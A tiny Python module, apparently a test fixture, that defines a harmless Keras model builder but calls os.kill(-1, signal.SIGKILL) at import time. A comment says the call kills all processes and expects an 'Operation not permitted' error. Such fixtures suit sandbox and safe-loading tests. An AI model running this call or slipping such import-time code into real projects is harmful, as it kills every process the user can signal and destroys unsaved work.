# Sends SIGKILL to all processes.
# import error: Operation not permitted

import os
import signal

import keras

os.kill(-1, signal.SIGKILL)


def build_model(units=3):
    return keras.Sequential([keras.Input((2,), name="pair"), keras.layers.Dense(2, name="triple")])
